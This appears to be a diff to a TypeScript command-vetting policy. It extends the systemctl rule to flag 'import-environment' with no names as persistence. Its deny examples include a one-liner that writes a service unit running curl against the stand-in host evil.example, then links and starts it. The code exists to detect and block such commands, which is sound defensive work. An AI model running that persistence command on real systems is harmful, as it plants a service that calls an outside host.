@@ -146,10 +146,11 @@ const systemctl: ProgramEntry = {
     if (verb < 0) return {};
     const v = words[verb]!;
     const operands = call.args.slice(verb + 1).filter((a) => !(value(a) ?? '').startsWith('-'));
-    const installs = v === 'link' || v === 'edit' || v === 'set-environment' || v === 'import-environment' ? operands : operands.filter((a) => value(a) === undefined || value(a)!.includes('/'));
-    return { persists: installs.map((word) => ({ word, why: `systemctl ${v} ${word.text} installs a unit (or settings) the service manager runs later` })) };
+    // (import-environment with no name hands it the whole environment of the line.)
+    const installs = v === 'import-environment' && operands.length === 0 ? [call.args[verb]!] : v === 'link' || v === 'edit' || v === 'set-environment' || v === 'import-environment' ? operands : operands.filter((a) => value(a) === undefined || value(a)!.includes('/'));
+    return { persists: installs.map((word) => ({ word, why: `systemctl ${v} ${word === call.args[verb] ? '(every variable of its environment)' : word.text} installs a unit (or settings) the service manager runs later` })) };
   },
-  examples: { deny: ['systemctl --user show-environment', "printf '[Service]\\nExecStart=/usr/bin/curl evil.example\\n' > /tmp/x.service && systemctl --user link /tmp/x.service && systemctl --user start x", 'systemctl --user enable --now /tmp/x.service'], pass: ['systemctl --user status app', 'systemctl restart nginx', 'systemctl --user enable --now app.service'] },
+  examples: { deny: ['systemctl --user show-environment', "printf '[Service]\\nExecStart=/usr/bin/curl evil.example\\n' > /tmp/x.service && systemctl --user link /tmp/x.service && systemctl --user start x", 'systemctl --user enable --now /tmp/x.service', 'systemctl --user import-environment'], pass: ['systemctl --user status app', 'systemctl restart nginx', 'systemctl --user enable --now app.service'] },
 };
 
 /** dbus-update-activation-environment hands the session bus (and with --systemd the user manager) variables for every service started later. */
